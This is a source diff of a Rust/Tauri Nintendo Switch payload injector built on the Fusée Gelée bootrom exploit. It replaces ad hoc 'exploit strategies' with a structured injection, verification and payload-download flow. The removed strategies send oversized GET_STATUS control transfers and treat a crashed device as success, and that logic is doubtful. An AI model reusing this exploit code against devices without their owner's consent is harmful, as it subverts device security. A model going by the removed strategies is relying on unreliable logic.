-const SWITCH_RCM_PRODUCT_ID: u16 = 0x7321;
-
-#[tauri::command]
-async fn detect_rcm_device() -> Result<RcmStatus, String> {
-    match rusb::devices() {
-        Ok(devices) => {
-            // Limit devices to check for safety
-            for device in devices.iter().take(20) {
-                match device.device_descriptor() {
-                    Ok(desc) => {
-                        if desc.vendor_id() == NINTENDO_VENDOR_ID
-                            && desc.product_id() == SWITCH_RCM_PRODUCT_ID
-                        {
-                            // Found Switch in RCM mode
-                            let device_info = device.open().ok().map(|handle| DeviceInfo {
-                                vendor_id: desc.vendor_id(),
-                                product_id: desc.product_id(),
-                                manufacturer: handle.read_manufacturer_string_ascii(&desc).ok(),
-                                product: handle.read_product_string_ascii(&desc).ok(),
-                                serial_number: handle.read_serial_number_string_ascii(&desc).ok(),
-                            });
-
-                            return Ok(RcmStatus {
-                                device_connected: true,
-                                device_info,
-                                rcm_detected: true,
-                                switch_connected_not_rcm: false,
-                            });
-                        }
-                    }
-                    Err(_) => continue,
-                }
-            }
-            // Check for a Nintendo Switch that is NOT in RCM
-            for device in devices.iter().take(20) {
-                if let Ok(desc) = device.device_descriptor() {
-                    if desc.vendor_id() == 0x057E {
-                        let device_info = device.open().ok().map(|handle| DeviceInfo {
-                            vendor_id: desc.vendor_id(),
-                            product_id: desc.product_id(),
-                            manufacturer: handle.read_manufacturer_string_ascii(&desc).ok(),
-                            product: handle.read_product_string_ascii(&desc).ok(),
-                            serial_number: handle.read_serial_number_string_ascii(&desc).ok(),
-                        });
-
-                        return Ok(RcmStatus {
-                            device_connected: true,
-                            device_info,
-                            rcm_detected: false,
-                            switch_connected_not_rcm: true,
-                        });
-                    }
-                }
-            }
-            // No RCM device found
-            Ok(RcmStatus {
-                device_connected: false,
-                device_info: None,
-                rcm_detected: false,
-                switch_connected_not_rcm: false,
-            })
-        }
-        Err(e) => Err(format!("Failed to enumerate USB devices: {}", e)),
+/// Reads the device ID of a device in RCM, or recalls it if we've already read it
+/// during this RCM session.
+fn rcm_chip_info(device: &rusb::Device<rusb::GlobalContext>) -> Option<ChipInfo> {
+    let bus_and_address = (device.bus_number(), device.address());
+    if let Some(chip_info) = chip::recall(bus_and_address) {
+        return Some(chip_info);
     }
+
+    let handle = device.open().ok()?;
+    handle.claim_interface(0).ok()?;
+    let device_id = RCMHax::from_transport(&handle).read_device_id().ok()?;
+    let chip_info = ChipInfo::from_device_id(&device_id).ok()?;
+
+    chip::remember(bus_and_address, &chip_info);
+    Some(chip_info)
+}
+
+/// Reads the device ID of the device in RCM at an address, for when we need to know
+/// the chip before injecting.
+pub(crate) fn read_chip_info(bus_and_address: (u8, u8)) -> Option<ChipInfo> {
+    let device = rusb::devices()
+        .ok()?
+        .iter()
+        .find(|device| (device.bus_number(), device.address()) == bus_and_address)?;
+    rcm_chip_info(&device)
 }
 
 #[tauri::command]
-async fn get_rcm_status() -> Result<RcmStatus, String> {
-    // Get current RCM status by rescanning
-    detect_rcm_device().await
+fn get_rcm_status(registry: tauri::State<'_, DeviceRegistry>) -> RcmStatus {
+    // The monitor keeps this up to date, so there's no need to rescan.
+    registry.status()
 }
 
 #[tauri::command]
@@ -562,551 +813,359 @@ fn open_url(url: String) -> Result<(), String> {
     open::that(url).map_err(|e| e.to_string())
 }
 
+/// Everything we need to know to run an injection.
+struct InjectionRequest {
+    payload_path: String,
+    backend: Option<String>,
+    intermezzo_path: Option<String>,
+    intermezzo_sha256: Option<String>,
+    /// The bus number and address of the device to inject, or `None` for the first
+    /// one we find.
+    device: Option<(u8, u8)>,
+}
+
 #[tauri::command]
 async fn inject_payload(
+    app: tauri::AppHandle,
     payload_path: String,
-    app_handle: tauri::AppHandle,
-) -> Result<String, String> {
-    println!("Starting Fusée Gelée exploit (Rust implementation based on Python original)...");
-    println!("Payload path: {}", payload_path);
-
-    // Check if payload file exists
-    if !std::path::Path::new(&payload_path).exists() {
-        return Err(format!("Payload file does not exist: {}", payload_path));
-    }
+    backend: Option<String>,
+    intermezzo_path: Option<String>,
+    intermezzo_sha256: Option<String>,
+) -> Result<InjectionReport, JoltError> {
+    let request = InjectionRequest {
+        payload_path,
+        backend,
+        intermezzo_path,
+        intermezzo_sha256,
+        device: None,
+    };
 
-    // Use Tauri v2 API to resolve resource path
-    let resource_path = app_handle
-        .path()
-        .resolve(
-            "assets/intermezzo.bin",
-            tauri::path::BaseDirectory::Resource,
-        )
-        .map_err(|e| format!("Could not resolve intermezzo.bin path: {}", e))?;
+    run_injection(app, request, None).await
+}
 
-    if !resource_path.exists() {
-        return Err(format!("Intermezzo binary not found at: {:?}. Please ensure you have built the intermezzo relocator.", resource_path));
-    }
+/// Like `inject_payload`, but waits for the device to enter RCM if it isn't
+/// there yet, until `timeout_secs` pass or `cancel_wait_for_device` is called.
+#[tauri::command]
+async fn inject_when_ready(
+    app: tauri::AppHandle,
+    waits: tauri::State<'_, WaitState>,
+    payload_path: String,
+    timeout_secs: Option<u64>,
+    backend: Option<String>,
+    intermezzo_path: Option<String>,
+    intermezzo_sha256: Option<String>,
+) -> Result<InjectionReport, JoltError> {
+    let request = InjectionRequest {
+        payload_path,
+        backend,
+        intermezzo_path,
+        intermezzo_sha256,
+        device: None,
+    };
 
-    let intermezzo_path_str = resource_path.to_str().ok_or("Invalid intermezzo path")?;
+    let wait = DeviceWait::new(timeout_secs.map(Duration::from_secs));
+    waits.begin(&wait);
+    let result = run_injection(app, request, Some(wait.clone())).await;
+    waits.finish(&wait);
 
-    // Execute the exploit using our faithful Rust implementation
-    match execute_fusee_gelee_exploit(&payload_path, intermezzo_path_str) {
-        Ok(msg) => Ok(msg),
-        Err(e) => {
-            println!("Exploit failed: {}", e);
-            Err(e)
-        }
-    }
+    result
 }
 
-fn diagnose_device_state(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    bulk_out_ep: u8,
-) -> Result<(), String> {
-    println!("Running device diagnostics...");
-
-    // Test 1: Basic control transfer responsiveness
-    let mut buffer = [0u8; 2];
-    match handle.read_control(
-        0x80,
-        0x00,
-        0x0000,
-        0x00,
-        &mut buffer,
-        std::time::Duration::from_millis(100),
-    ) {
-        Ok(len) => println!("  ✓ Control transfer test: {} bytes received", len),
-        Err(e) => return Err(format!("Control transfer test failed: {}", e)),
-    }
-
-    // Test 2: Try a minimal bulk transfer
-    let test_data = [0u8; 0x40]; // 64 bytes
-    match handle.write_bulk(
-        bulk_out_ep,
-        &test_data,
-        std::time::Duration::from_millis(50),
-    ) {
-        Ok(written) => {
-            println!("  ✓ Minimal bulk transfer test: {} bytes sent", written);
-            Ok(())
-        }
-        Err(e) => {
-            if e.to_string().contains("timeout") {
-                Err(
-                    "Device not accepting bulk transfers - may not be in proper RCM state"
-                        .to_string(),
-                )
-            } else {
-                Err(format!("Bulk transfer test failed: {}", e))
-            }
-        }
-    }
+#[tauri::command]
+fn cancel_wait_for_device(waits: tauri::State<'_, WaitState>) -> bool {
+    waits.cancel()
 }
 
-fn perform_fusee_gelee_exploit(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    interface_number: u8,
-    bulk_out_ep: u8,
-    payload_data: &[u8],
-) -> Result<String, String> {
-    println!("Starting Fusée Gelée exploit (based on crystalRCM and rajkosto implementations)...");
-
-    // Claim interface
-    if let Err(e) = handle.claim_interface(interface_number) {
-        return Err(format!("Failed to claim interface: {}", e));
-    }
-
-    // Strategy 1: Try the classic "bulk interrupt" approach (original rajkosto method)
-    println!("Strategy 1: Classic bulk interrupt approach");
-    match try_classic_bulk_interrupt(handle, bulk_out_ep, payload_data) {
-        Ok(msg) => return Ok(msg),
-        Err(e) => println!("Strategy 1 failed: {}", e),
-    }
-
-    // Strategy 2: Try the "primed device" approach (crystalRCM style)
-    println!("Strategy 2: Primed device approach");
-    match try_primed_device_exploit(handle, bulk_out_ep, payload_data) {
-        Ok(msg) => return Ok(msg),
-        Err(e) => println!("Strategy 2 failed: {}", e),
-    }
-
-    // Strategy 3: Try aggressive timing approach
-    println!("Strategy 3: Aggressive timing approach");
-    match try_aggressive_timing_exploit(handle, bulk_out_ep, payload_data) {
-        Ok(msg) => return Ok(msg),
-        Err(e) => println!("Strategy 3 failed: {}", e),
-    }
+async fn run_injection(
+    app: tauri::AppHandle,
+    request: InjectionRequest,
+    wait: Option<DeviceWait>,
+) -> Result<InjectionReport, JoltError> {
+    // The exploit is all blocking USB I/O, and may spend a long time waiting for the
+    // device, so keep it off the async runtime's worker threads.
+    tokio::task::spawn_blocking(move || inject(&app, &request, wait.as_ref()))
+        .await
+        .map_err(|e| JoltError::Interrupted(e.to_string()))?
+}
 
-    // Strategy 4: Try device reset and minimal payload approach
-    println!("Strategy 4: Device reset and minimal payload");
-    match try_device_reset_exploit(handle, bulk_out_ep, payload_data) {
-        Ok(msg) => return Ok(msg),
-        Err(e) => println!("Strategy 4 failed: {}", e),
+fn inject(
+    app: &tauri::AppHandle,
+    request: &InjectionRequest,
+    wait: Option<&DeviceWait>,
+) -> Result<InjectionReport, JoltError> {
+    // Everything logged during the injection carries what it's injecting where.
+    let span = info_span!(
+        "injection",
+        payload = %request.payload_path,
+        port = field::Empty,
+        chip = field::Empty,
+    );
+    let _entered = span.enter();
+
+    // Every attempt goes in the history, however far it got.
+    let started = Instant::now();
+    let mut attempt = HistoryEntry::begin(&request.payload_path);
+    let result = attempt_injection(app, request, wait, &mut attempt);
+    attempt.finish(&result, started.elapsed());
+    if let Err(e) = app.state::<InjectionHistory>().append(&attempt) {
+        warn!(error = %e, "Failed to record the injection in the history");
     }
 
-    println!("\n❌ All exploit strategies failed.");
-    println!("📋 Troubleshooting suggestions:");
-    println!("  • Make sure Switch is properly in RCM mode (hold VOL+ + VOL- + POWER)");
-    println!("  • Try replugging the USB cable");
-    println!("  • Try a different USB port on your computer");
-    println!("  • Make sure no other programs are accessing the USB device");
-    println!("  • Try power cycling the Switch and entering RCM again");
-    println!("  • Check if your Switch firmware is supported (most are vulnerable)");
-    println!("\n💡 If the issue persists, the device may be in an error state or not actually in RCM mode.");
-
-    Err("All exploit strategies failed. See troubleshooting suggestions above.".to_string())
+    result
 }
 
-#[tauri::command]
-async fn download_payload(url: String, filename: String) -> Result<String, String> {
-    // Get the download directory (platform-specific app data directory)
-    let download_dir = dirs::download_dir().ok_or("Could not determine download directory")?;
-
-    // Create payloads subdirectory
-    let payloads_dir = download_dir.join("payloads");
-    std::fs::create_dir_all(&payloads_dir)
-        .map_err(|e| format!("Failed to create payloads directory: {}", e))?;
-
-    // Use spawn_blocking to run the synchronous HTTP request
-    let url_clone = url.clone();
-    let filename_clone = filename.clone();
-
-    let result = tokio::task::spawn_blocking(move || {
-        // Download the file using blocking client
-        let response =
-            blocking::get(&url_clone).map_err(|e| format!("Failed to download file: {}", e))?;
-
-        if !response.status().is_success() {
-            return Err(format!(
-                "Download failed with status: {}",
-                response.status()
-            ));
-        }
+/// Does the injection, noting what it learns along the way in `attempt`.
+fn attempt_injection(
+    app: &tauri::AppHandle,
+    request: &InjectionRequest,
+    wait: Option<&DeviceWait>,
+    attempt: &mut HistoryEntry,
+) -> Result<InjectionReport, JoltError> {
+    let payload_path = &request.payload_path;
+
+    // Keep the device monitor's hands off the device until we're done with it.
+    let registry = app.state::<DeviceRegistry>();
+    let Some(_injecting) = registry.begin_injection() else {
+        return Err(JoltError::InjectionInProgress);
+    };
 
-        let content = response
-            .bytes()
-            .map_err(|e| format!("Failed to read response: {}", e))?;
+    info!("Starting Fusée Gelée exploit");
+
+    // Make sure it's something we can actually send before we grab the device.
+    let target_payload = payload::read_file(Path::new(payload_path))?;
+    let payload_info = payload::inspect(&target_payload);
+    attempt.payload_sha256 = Some(payload_info.sha256.clone());
+    payload_info.check()?;
+    info!(
+        description = %payload_info.description,
+        size = payload_info.size,
+        headroom = payload_info.headroom,
+        sha256 = %payload_info.sha256,
+        "Payload checked"
+    );
+
+    // Let the frontend follow along.
+    let report_progress = |progress: InjectionProgress| {
+        if let Err(e) = app.emit(progress::INJECTION_PROGRESS_EVENT, progress) {
+            warn!(error = %e, "Failed to report injection progress");
+        }
+    };
 
-        // Save to file
-        let payloads_dir = download_dir.join("payloads");
-        let file_path = payloads_dir.join(&filename_clone);
-        std::fs::write(&file_path, content).map_err(|e| format!("Failed to save file: {}", e))?;
+    let intermezzo = match request.intermezzo_path.as_deref() {
+        Some(path) => {
+            Intermezzo::select(Some(Path::new(path)), request.intermezzo_sha256.as_deref())?
+        }
+        None => app.state::<BuiltinIntermezzo>().get()?,
+    };
 
-        Ok(file_path.to_string_lossy().to_string())
-    })
-    .await;
+    // The strategies to deliver it with, in the order the settings give.
+    let strategy_registry = StrategyRegistry::builtin();
+    let strategies = strategy_registry.resolve(&strategy::load_settings(app).order)?;
+
+    // Get a connection to our device. The backend is normally picked for the current
+    // OS, but can be overridden (e.g. "linux" or "macos") for machines where the
+    // default misbehaves.
+    let switch = RCMHax::new(
+        wait,
+        request.backend.as_deref(),
+        Some(RCM_VID),
+        Some(RCM_PID),
+        request.device,
+        false,
+        &report_progress,
+    )?;
+    attempt.port_path = monitor::port_path(&switch.device.device());
+    attempt.chip_uid = switch
+        .bus_and_address()
+        .and_then(chip::recall)
+        .map(|chip_info| chip_info.uid);
+    let span = Span::current();
+    if let Some(port_path) = &attempt.port_path {
+        span.record("port", port_path.as_str());
+    }
+    if let Some(chip_uid) = &attempt.chip_uid {
+        span.record("chip", chip_uid.as_str());
+    }
 
-    match result {
-        Ok(inner_result) => inner_result,
-        Err(e) => Err(format!("Task failed: {}", e)),
+    // Note what's on the bus, so we can tell afterwards whether the payload took.
+    let bus_and_address = switch.bus_and_address();
+    let watcher = verify::before_injection(bus_and_address);
+
+    let result = execute_exploit(
+        switch,
+        payload_path,
+        &target_payload,
+        &intermezzo,
+        &strategies,
+        &report_progress,
+    );
+    // execute_exploit keeps whatever device ID it read, even when a later step
+    // failed, so failed attempts still say which Switch they were.
+    let chip_info = bus_and_address.and_then(chip::recall);
+    attempt.chip_uid = chip_info.as_ref().map(|chip_info| chip_info.uid.clone());
+    // The monitor doesn't read device IDs, so tell it what we found.
+    if let Some(bus_and_address) = bus_and_address {
+        registry.record_chip(bus_and_address, chip_info);
     }
-}
 
-fn try_classic_bulk_interrupt(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    bulk_out_ep: u8,
-    payload_data: &[u8],
-) -> Result<String, String> {
-    println!("  Attempting classic bulk interrupt method...");
-
-    // Send initial bulk data with very short timeout
-    let initial_chunk = &payload_data[0..std::cmp::min(0x1000, payload_data.len())];
-
-    match handle.write_bulk(
-        bulk_out_ep,
-        initial_chunk,
-        std::time::Duration::from_millis(50),
-    ) {
-        Ok(_) => {
-            // Bulk transfer succeeded - device is accepting data normally
-            // This means exploit didn't trigger, try a different approach
-            return Err("Device accepted bulk data normally - exploit not triggered".to_string());
+    match result {
+        Ok(mut result) => {
+            result.verification = verify::verify(
+                watcher,
+                verify::load_settings(app).window(),
+                &report_progress,
+            );
+            if let Err(e) = app
+                .state::<PayloadLibrary>()
+                .record_injection(&result.payload_sha256)
+            {
+                warn!(error = %e, "Failed to record the injection in the library");
+            }
+            Ok(result)
         }
         Err(e) => {
-            if e.to_string().contains("timeout") {
-                println!("  ✓ Bulk transfer timed out as expected - sending overflow control transfer...");
-
-                // Send the overflow control transfer immediately after timeout
-                let mut overflow_buffer = vec![0u8; 0xFFFF];
-                match handle.read_control(
-                    0x82,               // bmRequestType: IN | STANDARD | ENDPOINT
-                    0x00,               // bRequest: GET_STATUS
-                    0x0000,             // wValue
-                    bulk_out_ep as u16, // wIndex: target bulk endpoint
-                    &mut overflow_buffer,
-                    std::time::Duration::from_millis(100),
-                ) {
-                    Ok(_) => println!("  ✓ Control transfer succeeded"),
-                    Err(e) => println!("  ⚠ Control transfer failed: {}", e),
-                }
-
-                // Check if device is still responsive
-                std::thread::sleep(std::time::Duration::from_millis(50));
-                match handle.write_bulk(
-                    bulk_out_ep,
-                    &payload_data[0..0x100],
-                    std::time::Duration::from_millis(50),
-                ) {
-                    Ok(_) => Err("Device still responsive - exploit failed".to_string()),
-                    Err(_) => Ok(
-                        "✓ Classic bulk interrupt exploit succeeded! Device crashed/rebooted."
-                            .to_string(),
-                    ),
-                }
-            } else {
-                Err(format!("Unexpected bulk transfer error: {}", e))
-            }
+            error!(code = e.code(), error = %e, "Exploit failed");
+            Err(e)
         }
     }
 }
 
-fn try_primed_device_exploit(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    bulk_out_ep: u8,
-    payload_data: &[u8],
-) -> Result<String, String> {
-    println!("  Attempting primed device method...");
-
-    // Send multiple control transfers to "prime" the device (crystalRCM approach)
-    let mut overflow_buffer = vec![0u8; 0xFFFF];
-
-    for i in 1..=5 {
-        match handle.read_control(
-            0x80,   // Device-directed
-            0x00,   // GET_STATUS
-            0x0000, // wValue
-            0x00,   // wIndex (device)
-            &mut overflow_buffer,
-            std::time::Duration::from_millis(200),
-        ) {
-            Ok(_) => println!("  ✓ Prime control transfer {} succeeded", i),
-            Err(e) => println!("  ⚠ Prime control transfer {} failed: {}", i, e),
-        }
-        std::thread::sleep(std::time::Duration::from_millis(10));
-    }
-
-    // Now try bulk transfer
-    match handle.write_bulk(
-        bulk_out_ep,
-        &payload_data[0..0x1000],
-        std::time::Duration::from_millis(1000),
-    ) {
-        Ok(written) => {
-            println!(
-                "  ✓ Bulk transfer succeeded ({} bytes) after priming",
-                written
-            );
-
-            // Device accepted data - try interleaving control transfers
-            let mut bytes_sent = written;
-            let mut alternate = false;
-
-            while bytes_sent < payload_data.len() {
-                let remaining = payload_data.len() - bytes_sent;
-                let chunk_size = std::cmp::min(remaining, 0x1000);
-                let chunk = &payload_data[bytes_sent..bytes_sent + chunk_size];
-
-                if alternate {
-                    // Send control transfer
-                    let mut overflow_buffer = vec![0u8; 0xFFFF];
-                    let _ = handle.read_control(
-                        0x82,
-                        0x00,
-                        0x0000,
-                        bulk_out_ep as u16,
-                        &mut overflow_buffer,
-                        std::time::Duration::from_millis(50),
-                    );
-                }
+#[tauri::command]
+fn inspect_payload(payload_path: String) -> Result<payload::PayloadInfo, JoltError> {
+    payload::inspect_file(Path::new(&payload_path))
+}
 
-                alternate = !alternate;
+/// A payload to download into the library.
+#[derive(serde::Deserialize)]
+struct DownloadRequest {
+    url: String,
+    filename: String,
+    expected_sha256: Option<String>,
+    /// Where to find the expected SHA-256, if it wasn't given.
+    checksum_url: Option<String>,
+    /// Which file to take, if the download is an archive.
+    payload_patterns: Option<Vec<String>>,
+    #[serde(default)]
+    origin: Origin,
+}
 
-                match handle.write_bulk(bulk_out_ep, chunk, std::time::Duration::from_millis(200)) {
-                    Ok(written) => {
-                        bytes_sent += written;
-                        println!("  ✓ Sent {} bytes, total: {} bytes", written, bytes_sent);
-                    }
-                    Err(e) => {
-                        if e.to_string().contains("timeout") {
-                            // Check if device crashed
-                            std::thread::sleep(std::time::Duration::from_millis(20));
-                            match handle.write_bulk(bulk_out_ep, &payload_data[0..0x100], std::time::Duration::from_millis(20)) {
-                                Ok(_) => continue, // Device still responsive, keep trying
-                                Err(_) => return Ok("✓ Primed device exploit succeeded! Device became unresponsive.".to_string()),
-                            }
-                        }
-                        return Err(format!("Bulk transfer failed: {}", e));
-                    }
+#[tauri::command]
+async fn download_payload(
+    app: tauri::AppHandle,
+    downloads: tauri::State<'_, DownloadState>,
+    library: tauri::State<'_, PayloadLibrary>,
+    request: DownloadRequest,
+) -> Result<LibraryEntry, DownloadError> {
+    let DownloadRequest {
+        url,
+        filename,
+        expected_sha256,
+        checksum_url,
+        payload_patterns,
+        mut origin,
+    } = request;
+
+    // The name comes from whoever published the file, so make sure it can't escape
+    // the payloads directory.
+    let filename = download::sanitize_filename(&filename)?;
+
+    // Everything lands in a staging directory first, so nothing in the library is
+    // touched until we know we've got a payload.
+    let payloads_dir = library.dir();
+    let staging_dir = payloads_dir.join(download::STAGING_DIR);
+    std::fs::create_dir_all(&staging_dir)?;
+
+    let cancelled = downloads.begin(&filename);
+    let mut options = DownloadOptions {
+        expected_sha256,
+        ..Default::default()
+    };
+    let payload_patterns = payload_patterns.unwrap_or_else(|| {
+        archive::DEFAULT_PAYLOAD_PATTERNS
+            .iter()
+            .map(|pattern| pattern.to_string())
+            .collect()
+    });
+
+    // The HTTP client is synchronous, so keep it off the async runtime's threads.
+    let result = tokio::task::spawn_blocking({
+        let filename = filename.clone();
+        let staging_dir = staging_dir.clone();
+        let cancelled = cancelled.clone();
+        move || -> Result<PathBuf, DownloadError> {
+            let report_progress = |progress: DownloadProgress| {
+                if let Err(e) = app.emit(download::DOWNLOAD_PROGRESS_EVENT, progress) {
+                    warn!(error = %e, "Failed to report download progress");
                 }
-            }
+            };
 
-            Err("Completed all data transfer without triggering exploit".to_string())
-        }
-        Err(e) => {
-            if e.to_string().contains("timeout") {
-                // Device timed out immediately - try control transfer
-                let mut overflow_buffer = vec![0u8; 0xFFFF];
-                let _ = handle.read_control(
-                    0x82,
-                    0x00,
-                    0x0000,
-                    bulk_out_ep as u16,
-                    &mut overflow_buffer,
-                    std::time::Duration::from_millis(100),
-                );
-
-                // Check responsiveness
-                std::thread::sleep(std::time::Duration::from_millis(50));
-                match handle.write_bulk(
-                    bulk_out_ep,
-                    &payload_data[0..0x100],
-                    std::time::Duration::from_millis(50),
-                ) {
-                    Ok(_) => Err("Device still responsive after primed timeout".to_string()),
-                    Err(_) => Ok(
-                        "✓ Primed device exploit succeeded! Device became unresponsive."
-                            .to_string(),
-                    ),
-                }
-            } else {
-                Err(format!("Bulk transfer failed: {}", e))
+            // A checksum we were given beats one we'd have to trust the source for.
+            if let (None, Some(checksum_url)) = (&options.expected_sha256, &checksum_url) {
+                options.expected_sha256 = Some(download::fetch_checksum(checksum_url, &filename)?);
             }
-        }
-    }
-}
 
-fn try_aggressive_timing_exploit(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    bulk_out_ep: u8,
-    payload_data: &[u8],
-) -> Result<String, String> {
-    println!("  Attempting aggressive timing method...");
-
-    // Use extremely short timeouts and rapid control transfers
-    let mut overflow_buffer = vec![0u8; 0xFFFF];
-
-    for chunk_start in (0..payload_data.len()).step_by(0x800) {
-        let chunk_end = std::cmp::min(chunk_start + 0x800, payload_data.len());
-        let chunk = &payload_data[chunk_start..chunk_end];
-
-        // Send control transfer, then immediately try bulk transfer
-        let _ = handle.read_control(
-            0x82,
-            0x00,
-            0x0000,
-            bulk_out_ep as u16,
-            &mut overflow_buffer,
-            std::time::Duration::from_millis(10),
-        );
-
-        match handle.write_bulk(bulk_out_ep, chunk, std::time::Duration::from_millis(10)) {
-            Ok(written) => {
-                println!("  ✓ Aggressive chunk sent ({} bytes)", written);
-            }
-            Err(e) => {
-                if e.to_string().contains("timeout") {
-                    // Check if device crashed
-                    std::thread::sleep(std::time::Duration::from_micros(500));
-                    match handle.write_bulk(
-                        bulk_out_ep,
-                        &payload_data[0..0x100],
-                        std::time::Duration::from_micros(500),
-                    ) {
-                        Ok(_) => continue, // Device still responsive, keep trying
-                        Err(_) => return Ok(
-                            "✓ Aggressive timing exploit succeeded! Device became unresponsive."
-                                .to_string(),
-                        ),
+            let path = download::download(
+                &url,
+                &staging_dir,
+                &filename,
+                &options,
+                &cancelled,
+                &report_progress,
+            )?;
+
+            // Release archives get their payload pulled out, so what we hand back can
+            // be injected straight away.
+            let staged = match ArchiveKind::detect_file(&path)? {
+                None => path,
+                Some(kind) => {
+                    let extracted =
+                        archive::extract_payload(&path, kind, &staging_dir, &payload_patterns);
+                    if extracted.as_ref().ok() != Some(&path) {
+                        let _ = std::fs::remove_file(&path);
                     }
+                    extracted?
                 }
-                return Err(format!("Aggressive transfer failed: {}", e));
+            };
+
+            // Whatever it is, it isn't something we'd inject.
+            if let Err(e) = payload::inspect_file(&staged).and_then(|info| info.check()) {
+                let _ = std::fs::remove_file(&staged);
+                return Err(DownloadError::Library(e.into()));
             }
+            Ok(download::move_unclobbered(&staged, &payloads_dir)?)
         }
+    })
+    .await;
+    downloads.finish(&filename, &cancelled);
+    // Only goes if no other download is using it.
+    let _ = std::fs::remove_dir(&staging_dir);
 
-        std::thread::sleep(std::time::Duration::from_micros(500));
-    }
+    let file_path = result.map_err(|e| DownloadError::Interrupted(e.to_string()))??;
 
-    Err("Aggressive timing completed without triggering exploit".to_string())
+    origin.asset_name = Some(filename);
+    library
+        .add(&file_path, origin)
+        .map_err(DownloadError::Library)
 }
 
-fn try_device_reset_exploit(
-    handle: &rusb::DeviceHandle<rusb::GlobalContext>,
-    bulk_out_ep: u8,
-    payload_data: &[u8],
-) -> Result<String, String> {
-    println!("  Attempting device reset method...");
-
-    // Try to reset the device (if supported)
-    if let Err(e) = handle.reset() {
-        println!("  ⚠ Device reset not supported or failed: {}", e);
-    } else {
-        println!("  ✓ Device reset attempted");
-        std::thread::sleep(std::time::Duration::from_millis(100));
-    }
-
-    // Try clearing halt condition on endpoints
-    let _ = handle.clear_halt(bulk_out_ep);
-    println!("  ✓ Cleared halt condition on bulk endpoint");
-
-    // Try a very minimal payload approach - just send a small chunk and overflow
-    let minimal_chunk = if payload_data.len() >= 0x1000 {
-        &payload_data[0..0x1000]
-    } else {
-        payload_data
-    };
+#[tauri::command]
+fn cancel_download(downloads: tauri::State<'_, DownloadState>, filename: String) -> bool {
+    download::sanitize_filename(&filename).is_ok_and(|filename| downloads.cancel(&filename))
+}
 
-    // Send minimal data with very short timeout
-    match handle.write_bulk(
-        bulk_out_ep,
-        minimal_chunk,
-        std::time::Duration::from_millis(10),
-    ) {
-        Ok(_) => {
-            println!("  ✓ Minimal bulk transfer succeeded after reset - device is responsive");
-            // If it succeeds, try overflow immediately
-            let mut overflow_buffer = vec![0u8; 0xFFFF];
-            let _ = handle.read_control(
-                0x82,
-                0x00,
-                0x0000,
-                bulk_out_ep as u16,
-                &mut overflow_buffer,
-                std::time::Duration::from_millis(50),
-            );
+/// The built-in intermezzo, checked once at startup.
+struct BuiltinIntermezzo(Result<Intermezzo, String>);
 
-            // Check if device crashed
-            std::thread::sleep(std::time::Duration::from_millis(20));
-            match handle.write_bulk(
-                bulk_out_ep,
-                &payload_data[0..0x100],
-                std::time::Duration::from_millis(20),
-            ) {
-                Ok(_) => Err("Device still responsive after reset + overflow attempt".to_string()),
-                Err(_) => Ok("✓ Device reset + minimal payload exploit succeeded!".to_string()),
-            }
-        }
-        Err(e) => {
-            if e.to_string().contains("timeout") {
-                println!("  ✓ Minimal bulk transfer timed out after reset - trying overflow");
-
-                // Send overflow control transfer
-                let mut overflow_buffer = vec![0u8; 0xFFFF];
-                let _ = handle.read_control(
-                    0x82,
-                    0x00,
-                    0x0000,
-                    bulk_out_ep as u16,
-                    &mut overflow_buffer,
-                    std::time::Duration::from_millis(100),
-                );
-
-                // Check if device is still responsive
-                std::thread::sleep(std::time::Duration::from_millis(50));
-                match handle.write_bulk(
-                    bulk_out_ep,
-                    &payload_data[0..0x100],
-                    std::time::Duration::from_millis(50),
-                ) {
-                    Ok(_) => Err("Device still responsive after reset timeout".to_string()),
-                    Err(_) => Ok("✓ Device reset + timeout exploit succeeded!".to_string()),
-                }
-            } else {
-                Err(format!("Reset method failed: {}", e))
-            }
-        }
+impl BuiltinIntermezzo {
+    fn get(&self) -> Result<Intermezzo, JoltError> {
+        self.0.clone().map_err(JoltError::IntermezzoCorrupted)
     }
 }
 
 #[tauri::command]
-async fn list_usb_devices() -> Result<Vec<DeviceInfo>, String> {
-    match rusb::devices() {
-        Ok(devices) => {
-            let mut device_list = Vec::new();
-
-            // Limit the number of devices we process to prevent issues
-            let max_devices = 50;
-            let devices_to_check = devices.iter().take(max_devices);
-
-            for device in devices_to_check {
-                match device.device_descriptor() {
-                    Ok(desc) => {
-                        // Skip devices that might cause issues
-                        if desc.vendor_id() == 0 || desc.product_id() == 0 {
-                            continue;
-                        }
-
-                        let manufacturer = device
-                            .open()
-                            .ok()
-                            .and_then(|h| h.read_manufacturer_string_ascii(&desc).ok());
-
-                        let product = device
-                            .open()
-                            .ok()
-                            .and_then(|h| h.read_product_string_ascii(&desc).ok());
-
-                        let serial_number = device
-                            .open()
-                            .ok()
-                            .and_then(|h| h.read_serial_number_string_ascii(&desc).ok());
-
-                        device_list.push(DeviceInfo {
-                            vendor_id: desc.vendor_id(),
-                            product_id: desc.product_id(),
-                            manufacturer,
-                            product,
-                            serial_number,
-                        });
-                    }
-                    Err(_) => continue,
-                }
-            }
-
-            Ok(device_list)
-        }
-        Err(e) => Err(format!("Failed to enumerate USB devices: {}", e)),
-    }
+fn list_usb_devices(registry: tauri::State<'_, DeviceRegistry>) -> Vec<DeviceInfo> {
+    // Everything the monitor has seen, strings and all, without reopening anything.
+    registry.device_infos()
 }
 
 #[cfg_attr(mobile, tauri::mobile_entry_point)]
@@ -1115,13 +1174,74 @@ pub fn run() {
         .plugin(tauri_plugin_opener::init())
         .plugin(tauri_plugin_dialog::init())
         .plugin(tauri_plugin_store::Builder::new().build())
+        .manage(WaitState::default())
+        .manage(DeviceRegistry::default())
+        .manage(DownloadState::default())
+        .setup(|app| {
+            // Everything else needs to know where to keep its files.
+            let storage = Storage::resolve(app.handle())?;
+            app.manage(LogGuard(logging::init(Some(&storage.log_dir))));
+            info!(
+                version = env!("CARGO_PKG_VERSION"),
+                portable = storage.portable,
+                "Starting jolt"
+            );
+            // Make sure the relocator we ship is intact before offering to inject
+            // anything. If it isn't, injections say why instead of the app not starting.
+            let builtin_intermezzo = Intermezzo::builtin();
+            if let Err(e) = &builtin_intermezzo {
+                error!(error = %e, "The built-in intermezzo failed its integrity check");
+            }
+            app.manage(BuiltinIntermezzo(
+                builtin_intermezzo.map_err(|e| e.to_string()),
+            ));
